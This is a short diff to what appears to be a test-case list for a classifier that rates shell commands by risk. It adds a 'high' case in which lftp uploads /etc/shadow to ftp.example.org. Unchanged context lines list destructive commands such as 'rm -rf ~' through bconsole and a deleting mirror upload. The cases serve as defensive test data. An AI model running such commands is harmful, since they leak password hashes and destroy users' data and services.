@@ -90,6 +90,7 @@ CASES = [
     ("high", "bconsole <<< '!rm -rf ~'"),
     ("high", "virsh 'undefine web'"),
     ("high", "crm configure <<< erase"),
+    ("high", "lftp -e 'put /etc/shadow; bye' ftp.example.org"),
     ("high", "lftp ftp.example.org <<< 'mirror -R --delete . /pub'"),
     ("low", "lftp ftp.example.org <<< ls"),
     ("high", "kadmin.local -q 'delprinc -force bob'"),
